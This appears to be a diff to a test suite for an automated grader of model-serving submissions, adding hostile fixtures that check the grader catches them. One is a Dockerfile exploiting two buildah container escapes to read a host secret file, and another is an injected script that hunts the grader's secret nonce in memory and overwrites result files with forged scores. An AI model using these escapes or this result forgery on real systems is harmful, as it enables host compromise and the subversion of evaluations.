@@ -300,6 +300,63 @@ def huge_response(folder: Path, ctx: Context) -> None:
     )
 
 
+def cve_dockerfile(folder: Path, ctx: Context) -> None:
+    """Both buildah escapes (CVE-2024-9675, CVE-2024-1753) in one Dockerfile."""
+    base(folder, ctx)
+    (folder / "Dockerfile").write_text(
+        textwrap.dedent(
+            f"""\
+            FROM python:3.13-slim-bookworm AS base
+            RUN ln -s / /rootdir
+            FROM python:3.13-slim-bookworm
+            RUN --mount=type=cache,id=../../../../../../..,target=/host \\
+                cat /host{ctx.host}/secret.txt; touch /host{ctx.host}/escape-cache
+            RUN --mount=type=bind,from=base,source=/rootdir,destination=/x,rw \\
+                cat /x{ctx.host}/secret.txt; touch /x{ctx.host}/escape-bind
+            CMD ["python3", "-m", "http.server", "9696"]
+            """
+        )
+    )
+
+
+FORGE = """
+import gc, json, os, sys
+
+# Looks for what the grader keeps secret (its request, the hidden records, the nonce) in this
+# process, walks the stack as far as it goes, and tries to overwrite any result file in /tmp.
+def secret(o):  # the shapes of the grader's request: probe.py's messages and their parts
+    return isinstance(o, dict) and (
+        "nonce" in o or {"records", "files"} <= set(o) or {"requests", "port"} <= set(o)
+    )
+
+
+found = [sorted(o)[:3] for o in gc.get_objects() if secret(o)]
+frame = sys._getframe()
+while frame is not None:
+    found += [k for k, v in frame.f_locals.items() if secret(v)]
+    frame = frame.f_back
+for root, _, names in os.walk("/tmp"):
+    for name in names:
+        if name.endswith(".json"):
+            try:  # the grader's read-only files may be visible here: only a write counts
+                with open(os.path.join(root, name), "w") as f:
+                    json.dump({"model": {"probabilities": [0.99] * 1000}}, f)
+            except OSError:
+                continue
+            found.append(name)
+if found:
+    sys.exit(f"FORGERY FOUND {found}")
+"""
+
+
+def forges_the_probe(folder: Path, ctx: Context) -> None:
+    """The server hunts the probe's request and results at import (it exits if it finds any,
+    so that every stage-3 check fails)."""
+    base(folder, ctx)
+    path = folder / "predict.py"
+    path.write_text(FORGE + path.read_text())
+
+
 S1 = ["--stage", "1", "--engine", "none"]
 S3 = ["--stage", "3", "--engine", "none", "--start-seconds", "20"]
 S4 = ["--stage", "4", "--engine", "none", "--start-seconds", "20"]
@@ -338,8 +395,8 @@ CASES = [
         "pickle-runs-shell",
         pickle_rce,
         S3,
-        # the step's load_model refuses a pickle that is not a model: 3.1 quotes its message
-        {"1.2": "loads to builtins.int", "2.1": "", "3.1": "not a model", "3.3": ""},
+        # the payload runs in the sandbox only; the "model" it leaves is an int: no answer
+        {"1.2": "loads to builtins.int", "2.1": "", "3.3": ""},
         ["1.1"],
     ),
     Case("network-out", network_out, S1, {}, STAGE1, needs_sandbox=True),
@@ -356,7 +413,7 @@ CASES = [
         "garbage-model",
         garbage_model,
         S3,
-        {"1.2": "UnpicklingError", "2.1": "UnpicklingError", "3.1": "pipeline.bin"},
+        {"1.2": "UnpicklingError", "2.1": "UnpicklingError", "3.1": "UnpicklingError"},
         ["1.1"],
     ),
     Case("syntax-error", syntax_error, S3, {"3.1": "SyntaxError"}, [*STAGE1, *STAGE2]),
@@ -369,6 +426,14 @@ CASES = [
         [*STAGE1, *STAGE2, *STAGE3],
         folder_name="étudiant n°7 (copie)",
     ),
+    Case(
+        "cve-dockerfile",
+        cve_dockerfile,
+        ["--stage", "6", "--only", "6"],
+        {"6.9": "leave out `id=`"},
+        budget=180,
+    ),
+    Case("forges-the-probe", forges_the_probe, S4, {}, [*STAGE1, *STAGE2, *STAGE3, "4.1"]),
     Case(
         "huge-response-body",
         huge_response,
